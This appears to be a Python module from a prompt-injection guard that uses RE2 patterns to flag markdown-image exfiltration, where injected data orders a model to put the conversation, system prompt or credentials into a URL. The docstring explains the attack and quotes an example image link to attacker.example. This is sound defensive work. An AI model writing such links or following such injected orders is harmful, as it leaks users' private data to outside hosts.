"""Exfiltration through a link: data asks the model to put private text into a URL.

An assistant that renders markdown fetches every image it writes. An injected document
can therefore ask for ``![x](https://attacker.example/log?q=<the conversation>)``: the
model fills the placeholder and the client's image fetch delivers it, without a click
(the "markdown image exfiltration" class: Rehberger's Bing Chat / ChatGPT plugin reports,
Greshake et al. 2023). Two shapes are reported as ``hidden_instruction`` (an order to
the model hidden in data, which is what it is) at :data:`EXFIL_SCORE`, which stands on
its own in the score:

- a markdown image whose URL carries a placeholder for the model to fill:
  ``<...>``, ``{...}``, ``[...]``, ``$NAME`` (a finished image URL, a badge or a chart,
  has none);
- an order to put private text into a link, image or URL: a verb (append, add,
  include, insert, encode...), then within a sentence the conversation, the chat
  history, the user's data, a password or the system prompt, then the link — with an
  ``http`` URL or a markdown image in the text. API documentation says "append your
  API key to the URL" (the reader's own key, not the user's data) and is not matched.

Cost: both need ``http`` or ``![`` in the text (a sign of the grammar's set match);
then one RE2 search each.
"""

from __future__ import annotations

import re2

from guard.checks._injection_obfuscation import Span
from guard.checks._regex import re2_subject

EXFIL_SCORE = 0.7


def _options() -> re2.Options:
    options = re2.Options()
    options.log_errors = False
    return options


_PLACEHOLDER_IMAGE = re2.compile(
    r"!\[[^\]\n]{0,200}\]\(\s*https?://[^)\s]*"
    r"(?:<[^>)\n]{1,60}>|\{[^})\n]{1,60}\}|\[[^\])\n]{1,60}\]|\$[a-z_]{3,}|%[a-z_]{3,}%)",
    _options(),
)
_PRIVATE = (
    r"(?:(?:the |this |our |entire |whole |full |previous |current )*"
    r"(?:conversation|chat(?: history| log)?|dialog(?:ue)?|message history|previous messages|"
    r"system prompt|instructions above|(?:user|customer|victim)(?:'s|s')? [a-z ]{0,30}"
    r"(?:data|details|information|email|name|address|password|messages?|history|files?|"
    r"documents?|secrets?|keys?|tokens?|credentials)|personal (?:data|information|details)|"
    r"passwords?|credentials|secrets?|api keys? (?:of|from) the user))"
)
_ORDER = re2.compile(
    r"\b(?:append|add|include|insert|attach|put|encode|embed|place|concatenate|fill in|"
    r"substitute|replace [^.\n]{0,40} with)\b[^.\n]{0,60}\b" + _PRIVATE + r"\b[^.\n]{0,80}"
    r"\b(?:url|link|image|markdown|query(?: string)?|parameter|address)\b",
    _options(),
)


def exfil_hits(folded: str) -> list[Span]:
    """Orders to leak text through a URL, in folded text (spans in folded positions)."""
    if "http" not in folded and "![" not in folded:
        return []
    subject = re2_subject(folded)
    found: list[Span] = []
    match = _PLACEHOLDER_IMAGE.search(subject) if "![" in folded else None
    if match is not None:
        found.append((*match.span(), EXFIL_SCORE, "exfil_image"))
    else:
        order = _ORDER.search(subject)
        if order is not None:
            found.append((*order.span(), EXFIL_SCORE, "exfil_order"))
    return found
